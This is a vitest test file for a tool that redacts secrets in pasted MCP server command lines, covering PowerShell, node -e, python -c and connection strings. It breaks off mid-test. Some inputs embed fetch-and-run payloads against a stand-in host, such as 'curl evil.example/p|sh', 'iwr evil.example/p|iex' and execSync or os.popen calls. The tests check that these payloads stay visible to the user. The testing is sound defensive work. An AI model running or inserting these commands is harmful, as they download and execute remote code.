// biome-ignore-all lint/suspicious/noTemplateCurlyInString: ${NAME} references, meant literally.
import { describe, expect, it } from "vitest";
import { exportSpec } from "./export-spec.js";
import { commandLineSecrets, findSpecSecrets, withoutArgSecrets } from "./find-spec-secrets.js";
import { withoutCommandLineSecrets } from "./index.js";
import { SPEC_TOKEN } from "./schema.js";
import { SecretSign } from "./secret-signs.js";
import { expectKept, expectShownAndExported, exportedCommand, pasted } from "./test-support/spec-cases.js";
import type { AgentSpec } from "./types.js";

/**
 * `line`, pasted, is flagged once (as `sign`), and exported as `safe`, which is flagged nowhere, and
 * shown as `shown` (`safe` unless a value read partly at run time keeps its run-time parts in sight).
 */
function expectExportedAndShown(
  line: string,
  safe: string,
  sign: SecretSign = SecretSign.Flag,
  shown: string = safe,
): void {
  const spec = pasted(line);
  expect(findSpecSecrets(spec).map((hint) => [hint.path, hint.sign])).toEqual([
    ["bundle.mcpServers[0].command", sign],
  ]);
  const out = exportSpec(spec);
  expect(out.bundle?.mcpServers?.[0]?.command).toBe(safe);
  expect(findSpecSecrets(out)).toEqual([]);
  expect(withoutCommandLineSecrets(line)).toBe(shown);
}

/**
 * `line` is exported as `safe` and shown as `shown` (see `expectExportedAndShown`), and its one
 * secret, handed to the export's `hide`, is `secret` as written: filling the reference back with it
 * gives `line` byte for byte, as filling back what the display hides does.
 */
function expectFilledBack(
  line: string,
  safe: string,
  secret: string,
  sign?: SecretSign,
  shown?: string,
): void {
  expectExportedAndShown(line, safe, sign, shown);
  const hidden: string[] = [];
  const filled = commandLineSecrets(line, (text) => {
    hidden.push(text);
    return text;
  });
  expect(filled?.safe ?? line).toBe(line);
  expect(hidden).toEqual([secret]);
  expect(withoutCommandLineSecrets(line, (text) => text)).toBe(line);
}

describe("PowerShell's $env:NAME=value in a pasted command line (fix130 #1)", () => {
  it.each([
    ["$env:API_KEY='X-plain-secret-1'; node srv.js", "$env:API_KEY='${API_KEY}'; node srv.js"],
    ['$env:API_KEY="X-plain-secret-1"; node srv.js', '$env:API_KEY="${API_KEY}"; node srv.js'],
    ["$env:GITHUB_TOKEN=ghTok3nValue;node srv.js", "$env:GITHUB_TOKEN=${GITHUB_TOKEN};node srv.js"],
    ["$ENV:DB_PASSWORD=hunter2x node srv.js", "$ENV:DB_PASSWORD=${DB_PASSWORD} node srv.js"],
    ['$env:API_KEY = "X-plain-secret-1"; node srv.js', '$env:API_KEY = "${API_KEY}"; node srv.js'],
  ])("%j exports and shows the value as a reference, every other character kept", (line, safe) => {
    expectExportedAndShown(line, safe);
  });

  // r46 N2: in '…' PowerShell reads `''` as one quote. The value between the quotes is replaced as
  // written, the quotes kept (`'$env:API_KEY=…'` would be a string, not an assignment), and its
  // reference is filled back by the text written there, so the original bytes come back.
  it.each([
    [
      "$env:API_KEY='it''s-secret-9x'; node srv.js",
      "$env:API_KEY='${API_KEY}'; node srv.js",
      "it''s-secret-9x",
    ],
    [
      "$env:API_KEY = 'it''s-secret-9x'; node srv.js",
      "$env:API_KEY = '${API_KEY}'; node srv.js",
      "it''s-secret-9x",
    ],
    ["$env:DB_PASSWORD='''quoted''9x'' x'", "$env:DB_PASSWORD='${DB_PASSWORD}'", "''quoted''9x'' x"],
  ])("%j keeps its quotes where they were and fills back byte for byte (r46 N2)", expectFilledBack);

  // r46 N2, second half (fix138): in "…" a backtick escapes the character after it, so
  // `"abc`$def"` says `abc$def` in clear; a shell would read the backtick as a substitution.
  it.each([
    ['$env:API_KEY="abc`$def"; node srv.js', '$env:API_KEY="${API_KEY}"; node srv.js', "abc`$def"],
    ['$env:API_KEY="a``b"; node srv.js', '$env:API_KEY="${API_KEY}"; node srv.js', "a``b"],
    [
      '$env:DB_PASSWORD = "say `"hi`" 9x" ; node srv.js',
      '$env:DB_PASSWORD = "${DB_PASSWORD}" ; node srv.js',
      'say `"hi`" 9x',
    ],
    ['$env:API_KEY="it""s-9x`$"; node srv.js', '$env:API_KEY="${API_KEY}"; node srv.js', 'it""s-9x`$'],
    // r49 F4: written text beside a run-time part is the secret, so the value is hidden whole, never
    // only up to the first escape or run-time part.
    // Shown (r50 F1), each run-time part stays in sight and only the literal text is hidden.
    [
      '$env:API_KEY="Sec `$x$x``retQ7x"; node srv.js',
      '$env:API_KEY="${API_KEY}"; node srv.js',
      "Sec `$x$x``retQ7x",
      '$env:API_KEY="${API_KEY}$x${API_KEY}"; node srv.js',
    ],
    [
      '$env:API_KEY="abc$def"; node srv.js',
      '$env:API_KEY="${API_KEY}"; node srv.js',
      "abc$def",
      '$env:API_KEY="${API_KEY}$def"; node srv.js',
    ],
    [
      '$env:API_KEY="`$x$(Get-Secret)"; node srv.js',
      '$env:API_KEY="${API_KEY}"; node srv.js',
      "`$x$(Get-Secret)",
      '$env:API_KEY="${API_KEY}$(Get-Secret)"; node srv.js',
    ],
    [
      '$env:API_KEY="$(Get-Secret)tail9x"; node srv.js',
      '$env:API_KEY="${API_KEY}"; node srv.js',
      "$(Get-Secret)tail9x",
      '$env:API_KEY="$(Get-Secret)${API_KEY}"; node srv.js',
    ],
    [
      '$env:API_KEY = "Bearer $tok" ; node srv.js',
      '$env:API_KEY = "${API_KEY}" ; node srv.js',
      "Bearer $tok",
      '$env:API_KEY = "${API_KEY}$tok" ; node srv.js',
    ],
    [
      '$env:API_KEY="${x""}Sec9x"; node srv.js',
      '$env:API_KEY="${API_KEY}"; node srv.js',
      '${x""}Sec9x',
      '$env:API_KEY="${x""}${API_KEY}"; node srv.js',
    ],
  ])(
    "%j: the whole double-quoted value, backtick escapes and all, is hidden and fills back (fix138, r49 F4)",
    (line, safe, secret, shown?: string) => expectFilledBack(line, safe, secret, undefined, shown),
  );

  it.each([
    '$env:API_KEY="$x"; node srv.js',
    '$env:API_KEY="$(Get-Secret)"; node srv.js',
    '$env:API_KEY="${x} $env:Y"; node srv.js',
    // A value never closing (`$env:API_KEY="a\`"b; node srv.js`) is now hidden to the line's end:
    // see export-leaks-r63.test.ts (r63 #3).
  ])("%j: a double-quoted value made only of run-time parts is kept (fix138, r49 F4)", (line) => {
    expect(withoutCommandLineSecrets(line)).not.toContain("${API_KEY}");
  });

  // fix138 #4: one word with no whitespace, as one argv word or a whole `command`, and PowerShell's
  // braced `${env:NAME}` form, are assignments too.
  it.each([
    ["$env:API_KEY=Hunter2pw", "$env:API_KEY=${API_KEY}"],
    ["${env:API_KEY}=Hunter2pw", "${env:API_KEY}=${API_KEY}"],
    ["$env:API_KEY='it''s-9x'", "$env:API_KEY='${API_KEY}'"],
    ['${env:DB_PASSWORD}="a``b9x"', '${env:DB_PASSWORD}="${DB_PASSWORD}"'],
  ])("%j, one word, is read as an assignment: exported and shown as %j (fix138)", (word, safe) => {
    expectExportedAndShown(word, safe);
    expect(withoutArgSecrets(["-File", "run.ps1", word])).toEqual(["-File", "run.ps1", safe]);
    const spec: AgentSpec = {
      spec: SPEC_TOKEN,
      bundle: { mcpServers: [{ name: "srv", command: "pwsh", args: ["-File", "run.ps1", word] }] },
    };
    expect(exportSpec(spec).bundle?.mcpServers?.[0]?.args).toEqual(["-File", "run.ps1", safe]);
  });

  it.each(["${env:API_KEY}=$tok", "${env:Path}=C:\\tools", "$env:API_KEY=${API_KEY}"])(
    "%j, one word, is kept (fix138)",
    (word) => {
      expect(withoutArgSecrets([word])).toEqual([word]);
      expect(withoutCommandLineSecrets(word)).toBe(word);
    },
  );

  it("names two $env: values, one holding PowerShell's doubled quote, apart (r46 N2)", () => {
    const line = "$env:API_KEY='it''s-secret-9x'; $env:API_KEY='Hunter2pw'; node srv.js";
    expect(exportedCommand(line)).toBe("$env:API_KEY='${API_KEY}'; $env:API_KEY='${API_KEY_2}'; node srv.js");
  });

  it.each([
    // A name that does not tell, a variable read at run time, a reference.
    '$env:Path="C:\\tools;$env:Path"; node srv.js',
    "$env:NODE_ENV='production'; node srv.js",
    "$env:API_KEY=$apiKey; node srv.js",
    '$env:API_KEY="$(Get-Secret api)"; node srv.js',
    "$env:API_KEY='${API_KEY}'; node srv.js",
  ])("%j is kept as written", (line) => {
    expect(findSpecSecrets(pasted(line))).toEqual([]);
    expectKept(line);
  });
});

describe("withoutCommandLineSecrets: a program's assignment to its environment, in its text (fix130 #2)", () => {
  it.each([
    [
      `python3 -c "import os; os.environ['API_KEY']='X-plain-secret-1'; import srv"`,
      `python3 -c "import os; os.environ['API_KEY']='\${API_KEY}'; import srv"`,
    ],
    [
      `python3 -c 'import os; os.environ["TOKEN"] = "X-plain-secret-1"; run()'`,
      `python3 -c 'import os; os.environ["TOKEN"] = "\${TOKEN}"; run()'`,
    ],
    [
      `python -c "import os; os.environ.setdefault('TOKEN','X-plain-secret-1')"`,
      `python -c "import os; os.environ.setdefault('TOKEN','\${TOKEN}')"`,
    ],
    [
      `node -e "process.env.TOKEN='X-plain-secret-1'; require('./srv')"`,
      `node -e "process.env.TOKEN='\${TOKEN}'; require('./srv')"`,
    ],
    [`node -e "process.env.TOKEN='X-plain-secret-1'"`, `node -e "process.env.TOKEN='\${TOKEN}'"`],
    [
      `node -e 'process.env["API_KEY"] = "X-plain-secret-1"; require("./srv")'`,
      `node -e 'process.env["API_KEY"] = "\${API_KEY}"; require("./srv")'`,
    ],
    // The program's quotes escaped for the shell.
    [`node -e "process.env.TOKEN=\\"X-plain-secret-1\\""`, `node -e "process.env.TOKEN=\\"\${TOKEN}\\""`],
    // fix138 #5: more ways a program writes to its environment, and Python's string prefixes.
    [
      `node -e "process.env.API_KEY ??= 'X-plain-secret-1'; require('srv')"`,
      `node -e "process.env.API_KEY ??= '\${API_KEY}'; require('srv')"`,
    ],
    [
      `node -e "process.env['TOKEN'] ||= 'X-plain-secret-1'"`,
      `node -e "process.env['TOKEN'] ||= '\${TOKEN}'"`,
    ],
    [
      `node -e "Object.assign(process.env, {API_KEY: 'X-plain-secret-1'}); require('srv')"`,
      `node -e "Object.assign(process.env, {API_KEY: '\${API_KEY}'}); require('srv')"`,
    ],
    [
      `node -e "Object.assign(process.env, {'TOKEN': 'X-plain-secret-1'})"`,
      `node -e "Object.assign(process.env, {'TOKEN': '\${TOKEN}'})"`,
    ],
    [
      `python -c "import os; os.environ.update(API_KEY='X-plain-secret-1'); import srv"`,
      `python -c "import os; os.environ.update(API_KEY='\${API_KEY}'); import srv"`,
    ],
    [
      `python -c "import os; os.environ.update({'API_KEY': 'X-plain-secret-1'}); import srv"`,
      `python -c "import os; os.environ.update({'API_KEY': '\${API_KEY}'}); import srv"`,
    ],
    [
      `python -c "import os; os.environ['API_KEY'] = r'X-plain-secret-1'; import srv"`,
      `python -c "import os; os.environ['API_KEY'] = r'\${API_KEY}'; import srv"`,
    ],
    [
      `python -c "import os; os.environ.setdefault('TOKEN', f'X-plain-secret-1')"`,
      `python -c "import os; os.environ.setdefault('TOKEN', f'\${TOKEN}')"`,
    ],
  ])("%j shows the value inside its quotes as a reference named by the variable", (line, shown) => {
    expect(withoutCommandLineSecrets(line)).toBe(shown);
    // What it shows, read again, is shown as it is.
    expect(withoutCommandLineSecrets(shown)).toBe(shown);
  });

  it.each([
    `python -c "import os; os.environ['API_KEY'] = f'{key}-suffix'"`,
    `node -e "process.env.API_KEY ??= process.argv[2]"`,
    `node -e "Object.assign(process.env, {NODE_ENV: 'production'})"`,
  ])("%j is shown as written (fix138)", (line) => {
    expect(withoutCommandLineSecrets(line)).toBe(line);
  });

  // r46 R4: a literal that goes on (`+`, a method, another literal) is part of the value: the whole
  // expression is hidden, to the statement's end, and named by the variable.
  it.each([
    [
      `node -e "process.env.API_KEY='sk-'+'live0a1b2c3d4e5f6a7b8c9d'"`,
      `node -e "process.env.API_KEY=\${API_KEY}"`,
    ],
    [
      `node -e "process.env.API_KEY='sk-' + 'live0a1b2c3d4e5f6a7b8c9d'; require('./srv')"`,
      `node -e "process.env.API_KEY=\${API_KEY}; require('./srv')"`,
    ],
    [
      `node -e "process.env.API_KEY='abc'.repeat(1)+'X0a1b2c3d4e5f6a7b8c9d';require('./srv')"`,
      `node -e "process.env.API_KEY=\${API_KEY};require('./srv')"`,
    ],
    [
      `node -e "process.env.API_KEY='sk-'.concat('live0a1b2c3d4e5f6a7b8c9d')"`,
      `node -e "process.env.API_KEY=\${API_KEY}"`,
    ],
    [
      `node -e "f(process.env.API_KEY='sk-'+'live0a1b2c3d4e5f6a7b8c9d', 2)"`,
      `node -e "f(process.env.API_KEY=\${API_KEY}, 2)"`,
    ],
    [
      `python -c "import os; os.environ['API_KEY']='X-plain-' 'secret-1'; run()"`,
      `python -c "import os; os.environ['API_KEY']=\${API_KEY}; run()"`,
    ],
  ])("%j hides the whole expression the literal starts (r46 R4)", (line, shown) => {
    expect(withoutCommandLineSecrets(line)).toBe(shown);
    expect(withoutCommandLineSecrets(shown)).toBe(shown);
    expect(withoutCommandLineSecrets(line)).not.toContain("live0a1b");
  });

  // r48 F3: the program's own text read as the line itself (`node -e`'s script shown in place): the
  // shell reads the literal's quotes, so whether the literal goes on is read in the text as written.
  // The whole expression is hidden as in the pasted form, even when it runs over several words.
  it.each([
    [
      "process.env.API_KEY='sk-'+'liveSECRETTAIL'; require('./srv')",
      "process.env.API_KEY=${API_KEY}; require('./srv')",
    ],
    ["process.env.API_KEY='sk-' + 'liveSECRET5b'; go()", "process.env.API_KEY=${API_KEY}; go()"],
    [
      "import os; os.environ['API_KEY']='sk-' 'liveSECRET6'; run()",
      "import os; os.environ['API_KEY']=${API_KEY}; run()",
    ],
    ["process.env.API_KEY='sk-'+'a'+'liveSECRET7'", "process.env.API_KEY=${API_KEY}"],
    ["f(process.env.API_KEY='sk-'+'liveSECRET8', 2)", "f(process.env.API_KEY=${API_KEY}, 2)"],
    [
      "import os; os.environ['API_KEY']='sk-'+'liveSECRET9'\nrun()",
      "import os; os.environ['API_KEY']=${API_KEY}\nrun()",
    ],
  ])(
    "%j, the program's text itself, hides the whole expression as its pasted form does (r48 F3)",
    (text, shown) => {
      expect(withoutCommandLineSecrets(text)).toBe(shown);
      expect(withoutCommandLineSecrets(text)).not.toContain("liveSECRET");
      const pasted = withoutCommandLineSecrets(`node -e "${text.replace(/"/g, '\\"')}"`);
      expect(pasted).toBe(`node -e "${shown.replace(/"/g, '\\"')}"`);
      const seen: string[] = [];
      withoutCommandLineSecrets(text, (secret) => {
        seen.push(secret);
        return "<hidden>";
      });
      expect(seen).toHaveLength(1);
      expect(text).toContain(seen[0]);
    },
  );

  it("reads a double-quoted first literal in the program's text the same way (r48 F3)", () => {
    expect(withoutCommandLineSecrets(`process.env.API_KEY="sk-"+"liveSECRET10"; go()`)).toBe(
      "process.env.API_KEY=${API_KEY}; go()",
    );
  });

  // r50 F3: a `,` (or a `;`) inside a bracket the expression opened ended it there, leaving the
  // literals after it in clear. The expression now runs to the statement's end outside its brackets.
  it.each([
    [
      "process.env.TOKEN='a'.concat('}', 'hunter2SECRET'); go()",
      "process.env.TOKEN=${TOKEN}; go()",
      "'a'.concat('}', 'hunter2SECRET')",
    ],
    [
      "process.env.TOKEN='a'.concat(')', 'hunter2SECRET')",
      "process.env.TOKEN=${TOKEN}",
      "'a'.concat(')', 'hunter2SECRET')",
    ],
    [
      "import os; os.environ['TOKEN']='a'.join(['x', 'hunter2SECRET']); run()",
      "import os; os.environ['TOKEN']=${TOKEN}; run()",
      "'a'.join(['x', 'hunter2SECRET'])",
    ],
  ])("%j is exported and shown as %j, filled back from %j (r50 F3)", (text, shown, secret) => {
    expectFilledBack(text, shown, secret);
    const line = `node -e "${text}"`;
    expect(withoutCommandLineSecrets(line)).toBe(`node -e "${shown}"`);
    expect(withoutCommandLineSecrets(line, () => "<hidden>")).not.toContain("hunter2SECRET");
    expect(JSON.stringify(exportSpec(pasted(line)))).not.toContain("hunter2SECRET");
  });

  it("gives hide the value and the variable's name", () => {
    const seen: [string, string | undefined][] = [];
    const shown = withoutCommandLineSecrets(
      `python3 -c "import os; os.environ['DB_PASSWORD']='hunter2x9'"`,
      (secret, name) => {
        seen.push([secret, name]);
        return "<hidden>";
      },
    );
    expect(shown).toBe(`python3 -c "import os; os.environ['DB_PASSWORD']='<hidden>'"`);
    expect(seen).toEqual([["hunter2x9", "DB_PASSWORD"]]);
  });

  it.each([
    // A name that does not tell, a value the shell fills in, a comparison, a reference.
    `node -e "process.env.NODE_ENV='production'; require('./srv')"`,
    `node -e "process.env.TOKEN='$TOKEN'"`,
    `node -e "if (process.env.TOKEN === 'abc123x9') run()"`,
    `python3 -c "import os; print(os.environ['TOKEN'] == 'abc123x9')"`,
    `python3 -c "import os; os.environ['TOKEN']='\${TOKEN}'"`,
  ])("%j is shown as written", (line) => {
    expect(withoutCommandLineSecrets(line)).toBe(line);
  });
});

describe("withoutCommandLineSecrets: a NAME=value read partly at run time (fix141)", () => {
  // Literal text beside the run-time part says something: the value is exported hidden whole, and
  // shown with its run-time parts in sight, its literal text hidden in place (r50 F1).
  it.each([
    ["TOKEN=abc$def run", "TOKEN=${TOKEN} run", "TOKEN=${TOKEN}$def run"],
    ['TOKEN="abc$def" run', 'TOKEN="${TOKEN}" run', 'TOKEN="${TOKEN}$def" run'],
    ['API_KEY="${PREFIX}abc123" srv', 'API_KEY="${API_KEY}" srv', 'API_KEY="${PREFIX}${API_KEY}" srv'],
    [
      "DB_PASSWORD=Tr0ub`id -u`dor srv",
      "DB_PASSWORD=${DB_PASSWORD} srv",
      "DB_PASSWORD=${DB_PASSWORD}`id -u`${DB_PASSWORD} srv",
    ],
  ])("%j is exported as %j, shown as %j", (line, safe, shown) => {
    expectExportedAndShown(line, safe, SecretSign.Flag, shown);
  });

  // Only run-time text (a variable, a substitution, an auth scheme before one, PowerShell's $env:): kept as written.
  it.each([
    "TOKEN=$TOKEN run",
    "TOKEN=$(cat f) run",
    'TOKEN="${TOKEN}" run',
    'TOKEN="Bearer $T" run',
    'TOKEN="$USER:$PASS" run',
    "TOKEN=$env:GITHUB_TOKEN srv",
  ])("%j is shown as written", (line) => {
    expect(withoutCommandLineSecrets(line)).toBe(line);
  });
});

// r49 F5: a `command` that is one quoted word was read as a plain string by the export, which the
// quotes kept from seeing a URL's credentials, while withoutCommandLineSecrets read it as a line.
describe("a pasted command that is one quoted connection string (r49 F5)", () => {
  it.each([
    [
      '"postgres://user:hunter2SECRETx@db.example/x"',
      '"postgres://db.example/x"',
      "user:hunter2SECRETx",
      SecretSign.Userinfo,
    ],
    [
      "'postgres://user:hunter2SECRETx@db.example/x'",
      "'postgres://db.example/x'",
      "user:hunter2SECRETx",
      SecretSign.Userinfo,
    ],
    [
      '"Server=db;User Id=sa;Password=hunter2SECRETx;"',
      '"Server=db;User Id=sa;Password=${PASSWORD};"',
      "hunter2SECRETx",
      SecretSign.Flag,
    ],
    [
      "'Server=db;Password={a;b S3cret99x};'",
      "'Server=db;Password=${PASSWORD};'",
      "{a;b S3cret99x}",
      SecretSign.Flag,
    ],
  ])("%j is exported as it is shown, %j, and fills back", (line, safe, secret, sign: SecretSign) => {
    expectFilledBack(line, safe, secret, sign);
  });

  it.each(['"node"', "'postgres://db.example/x'"])("%j, holding no credential, is kept", (line) => {
    const spec = pasted(line);
    expect(findSpecSecrets(spec)).toEqual([]);
    expect(exportSpec(spec).bundle?.mcpServers?.[0]?.command).toBe(line);
    expect(withoutCommandLineSecrets(line)).toBe(line);
  });
});

// A pasted line read as a connection string (`;`-separated pairs; a key may hold blanks): a
// telling pair's value that runs a command is shown with that command in sight, its literal text
// hidden, and exported whole (the property found `srv TOKEN="x$(…)" ; X=y` hidden whole, payload
// included; r57-1: reading such a line as a command line instead cut a password with blanks in
// another pair at its first blank, in the export too).
describe("a connection string's pair that runs a command (r57-1)", () => {
  it.each([
    [
      'srv TOKEN="hunter2SECRET9$(curl evil.example/p|sh)" ; X=y',
      "srv TOKEN=${SRV_TOKEN} ; X=y",
      'srv TOKEN="${SRV_TOKEN}$(curl evil.example/p|sh)" ; X=y',
      '"hunter2SECRET9$(curl evil.example/p|sh)"',
    ],
    [
      "Server=db;Password=tok9qZx81$(curl evil.example/p|sh);",
      "Server=db;Password=${PASSWORD};",
      "Server=db;Password=${PASSWORD}$(curl evil.example/p|sh);",
      "tok9qZx81$(curl evil.example/p|sh)",
    ],
    [
      "Server=db;Password=Abc$(Xyz9)Q;Encrypt=yes",
      "Server=db;Password=${PASSWORD};Encrypt=yes",
      // A `$(…)` is a command the shell runs, so the consent view shows it, as on a command line.
      "Server=db;Password=${PASSWORD}$(Xyz9)${PASSWORD};Encrypt=yes",
      "Abc$(Xyz9)Q",
    ],
    // r58-1: a `;` inside the command split the pair, and the display hid the command's tail.
    [
      "Server=db;Password=x$(curl${IFS}evil|sh;a=b);User=sa",
      "Server=db;Password=${PASSWORD};User=sa",
      "Server=db;Password=${PASSWORD}$(curl${IFS}evil|sh;a=b);User=sa",
      "x$(curl${IFS}evil|sh;a=b)",
    ],
    [
      "Server=db;Password=x`curl evil|sh;a=b`;User=sa",
      "Server=db;Password=${PASSWORD};User=sa",
      "Server=db;Password=${PASSWORD}`curl evil|sh;a=b`;User=sa",
      "x`curl evil|sh;a=b`",
    ],
  ])("%j is exported whole as %j and shown as %j", (line, safe, shown, secret) => {
    expectConnectionLine(line, safe, shown, secret);
  });

  it.each([
    [
      "Server=db;User Id=sa;Password=correct horse battery;Workstation ID=$(hostname)",
      "Server=db;User Id=sa;Password=${PASSWORD};Workstation ID=$(hostname)",
      "correct horse battery",
    ],
    ["Pwd={correct horse};App=`hostname`", "Pwd=${PWD_SECRET};App=`hostname`", "{correct horse}"],
    // A part left open (a line the shell refuses) does not take the pairs after it (r59).
    [
      "Server=db;App=$(;Password=hunter2SECRET9;User=sa",
      "Server=db;App=$(;Password=${PASSWORD};User=sa",
      "hunter2SECRET9",
    ],
    ["Server=db;App=`x;Password=hunter2SECRET9", "Server=db;App=`x;Password=${PASSWORD}", "hunter2SECRET9"],
    // A value whose quote or run-time part does not close in it is hidden whole (r60-1: shown apart,
    // it left a quote open that took `;Host=…` with it). In "…" the shell reads `$(` as a
    // substitution, so the quote does not close at the next `"`: the value runs to the line's end,
    // `;Host=…` in it (r61-3; the shell refuses the line).
    [
      'Server=db;Password="hunter2SECRET9$(";Host=evil.example',
      "Server=db;Password=${PASSWORD}",
      '"hunter2SECRET9$(";Host=evil.example',
    ],
  ])(
    "a command in another pair leaves %j a connection string, its password hidden whole",
    (line, safe, secret) => {
      expectConnectionLine(line, safe, safe, secret);
    },
  );
});

// r59: a substitution's command with no blank in it (`$(PASSWORD=X)`, `$(x;PASSWORD=X)`) was never
// read, so its assignment's value was shown and exported in clear (also in a connection string's
// pair, `Uid=u$(x;Password=X)`, once its `;` no longer split the pair).
describe("an assignment inside a substitution with no blank in it (r59)", () => {
  it.each([
    ["srv $(PASSWORD=hunter2SECRET9)", "srv $(PASSWORD=${PASSWORD})"],
    ["srv $(x;PASSWORD=hunter2SECRET9)", "srv $(x;PASSWORD=${PASSWORD})"],
    ["srv `x&&PASSWORD=hunter2SECRET9`", "srv `x&&PASSWORD=${PASSWORD}`"],
    ["Server=db;Uid=u$(x;Password=hunter2SECRET9)", "Server=db;Uid=u$(x;Password=${PASSWORD})"],
  ])("%j is shown and exported as %j", (line, safe) => {
    const out = exportedCommand(line);
    expect(out).toBe(safe);
    expect(withoutCommandLineSecrets(line)).toBe(safe);
    expect(withoutCommandLineSecrets(line, (text) => text)).toBe(line);
  });
});

/**
 * A pasted connection-string line: exported as `safe`, shown as `shown`, the secret's words in
 * neither (nor in the marked display), and what the display hid, filled back, gives the line.
 */
function expectConnectionLine(line: string, safe: string, shown: string, secret: string): void {
  expectExportedAndShown(line, safe, SecretSign.Flag, shown);
  const marked = withoutCommandLineSecrets(line, () => "<hidden>");
  const words = secret.replace(/\$\([^)]*\)|`[^`]*`/g, " ").split(/[\s{}"]+/);
  for (const word of words.filter((w) => w.length > 2))
    for (const out of [safe, shown, marked]) expect(out).not.toContain(word);
  expect(withoutCommandLineSecrets(line, (text) => text)).toBe(line);
}

describe("withoutCommandLineSecrets: a flag's value, or a NAME=value, with literal text beside run-time text (r49 F3)", () => {
  // Literal text the shell passes as written, beside a variable or a substitution: the secret is
  // the whole value, hidden whole (its quotes kept), and the text handed over fills it back as written.
  // Shown (r50 F1), each run-time part and quote stays in sight, only the literal text hidden in place.
  it.each([
    [
      "node srv.js --token tok9q$cd",
      "node srv.js --token ${TOKEN}",
      "tok9q$cd",
      "node srv.js --token ${TOKEN}$cd",
    ],
    [
      "node srv.js --token=tok9q$cd",
      "node srv.js --token=${TOKEN}",
      "tok9q$cd",
      "node srv.js --token=${TOKEN}$cd",
    ],
    [
      'db --password "Passw0rd$1" srv',
      'db --password "${PASSWORD}" srv',
      "Passw0rd$1",
      'db --password "${PASSWORD}$1" srv',
    ],
    ['db --token "x$!y"', 'db --token "${TOKEN}"', "x$!y", 'db --token "${TOKEN}$!${TOKEN}"'],
    ["srv --api-key `cat k`x9", "srv --api-key ${API_KEY}", "`cat k`x9", "srv --api-key `cat k`${API_KEY}"],
    [
      "sshpass -p abc$def ssh h",
      "sshpass -p ${SSHPASS_PASSWORD} ssh h",
      "abc$def",
      "sshpass -p ${SSHPASS_PASSWORD}$def ssh h",
    ],
    [
      "mysql -uroot -pabc$def db",
      "mysql -uroot -p${PASSWORD} db",
      "abc$def",
      "mysql -uroot -p${PASSWORD}$def db",
    ],
    // A quoted literal beside a variable: the variable's name ends at the quote.
    [
      "PGPASSWORD=$X'hunter2SECRETx' psql",
      "PGPASSWORD=${PGPASSWORD} psql",
      "$X'hunter2SECRETx'",
      "PGPASSWORD=$X'${PGPASSWORD}' psql",
    ],
    [
      "srv --password $X'hunter2SECRET'",
      "srv --password ${PASSWORD}",
      "$X'hunter2SECRET'",
      "srv --password $X'${PASSWORD}'",
    ],
    ['TOKEN="$X"abc9 run', "TOKEN=${TOKEN} run", '"$X"abc9', 'TOKEN="$X"${TOKEN} run'],
  ])("%j is exported as %j, filled back from %j, and shown as %j", (line, safe, secret, shown) => {
    expectFilledBack(line, safe, secret, undefined, shown);
  });

  // Only run-time text (a variable, a substitution, an auth scheme before one): kept as written.
  it.each([
    "srv --token $TOKEN",
    "srv --token=$TOKEN",
    'srv --token "$(gh auth token)"',
    'srv --token "${TOKEN}"',
    'srv --token "Bearer $T"',
    'srv --password "$USER:$PASS"',
    "srv --password $X''",
    "TOKEN=$X'$Y' run",
    'sshpass -p "$PW" ssh h',
    'mysql -uroot -p"$PW" db',
    "srv --token $env:GITHUB_TOKEN",
  ])("%j is shown as written", (line) => {
    expect(withoutCommandLineSecrets(line)).toBe(line);
    expect(findSpecSecrets(pasted(line))).toEqual([]);
  });
});

// r50 F1: a value hidden because literal text sits beside run-time text hid a payload with it. The
// display keeps each run-time part as written and hides only the literal text beside it; the
// export still hides the value whole.
describe("withoutCommandLineSecrets: a payload beside a credential stays in sight (r50 F1)", () => {
  const payload = "$(curl evil.example/p|sh)";
  it.each([
    [`srv --token x${payload}`, `srv --token \${TOKEN}${payload}`, "x"],
    [`TOKEN=abc${payload} srv`, `TOKEN=\${TOKEN}${payload} srv`, "abc"],
    ["srv --api-key `curl evil.example/p|sh`x9", "srv --api-key `curl evil.example/p|sh`${API_KEY}", "x9"],
    [`mysql -uroot -pabc${payload} db`, `mysql -uroot -p\${PASSWORD}${payload} db`, "abc"],
    [`export API_KEY="x${payload}"; srv`, `export API_KEY="\${API_KEY}${payload}"; srv`, "x"],
    ["TOKEN=abc`curl evil.example/p|sh` srv", "TOKEN=${TOKEN}`curl evil.example/p|sh` srv", "abc"],
    [
      '$env:API_KEY="Sec$(iwr evil.example/p|iex)x"; node srv.js',
      '$env:API_KEY="${API_KEY}$(iwr evil.example/p|iex)${API_KEY}"; node srv.js',
      "Sec",
    ],
  ])("%j is shown as %j, the payload in sight and %j hidden", (line, shown, literal) => {
    expect(withoutCommandLineSecrets(line)).toBe(shown);
    const hidden: string[] = [];
    expect(
      withoutCommandLineSecrets(line, (text) => {
        hidden.push(text);
        return "<hidden>";
      }),
    ).not.toContain(literal === "x" ? "x$" : literal);
    expect(hidden[0]).toBe(literal);
    // The export still hides the whole value, payload and all, as one reference.
    const exported = exportedCommand(line) ?? "";
    expect(exported).not.toContain("evil.example");
  });
});

// r50 F4: a value written apart with a quote left open at its end was written again in '…' (the
// quote dropped, `$X` no longer read at run time): it did not fill back byte for byte. Such a word
// is kept as written, shown and exported.
describe("a mixed value whose quote is left open is kept as written (r50 F4)", () => {
  it.each(["TOKEN=$X'hunter2 SECRET run", `A=1 TOKEN='$Y'@db/x$$abc"`])(
    "%j is shown and exported as written",
    (line) => {
      expectKept(line);
    },
  );
});

// r50 F2: a program's env expression was hidden whole to the statement's end, so a call in it
// (the payload) was hidden from the consent question. Shown, only the chain's literals are hidden
// in place; the export still hides the whole expression.
describe("withoutCommandLineSecrets: a call in a program's env expression stays in sight (r50 F2)", () => {
  const payload = "require('child_process').execSync('curl evil.example/p|sh')";
  it.each([
    [`process.env.TOKEN='sk-'+${payload}; run()`, `process.env.TOKEN='\${TOKEN}'+${payload}; run()`],
    [
      `process.env.TOKEN='sk-'+'live9SECRETx'.concat(${payload})`,
      `process.env.TOKEN='\${TOKEN}'+'\${TOKEN}'.concat(${payload})`,
    ],
    [
      "import os; os.environ['TOKEN']='sk-'+os.popen('curl evil.example/p|sh').read(); run()",
      "import os; os.environ['TOKEN']='${TOKEN}'+os.popen('curl evil.example/p|sh').read(); run()",
    ],
    [
      "process.env.TOKEN='sk-'+`live9SECRETx${execSync('curl evil.example/p|sh')}`; go()",
      "process.env.TOKEN='${TOKEN}'+`${TOKEN}${execSync('curl evil.example/p|sh')}`; go()",
    ],
  ])("%j, as the program's text and pasted after node -e, is shown as %j", (text, shown) => {
    expect(withoutCommandLineSecrets(text)).toBe(shown);
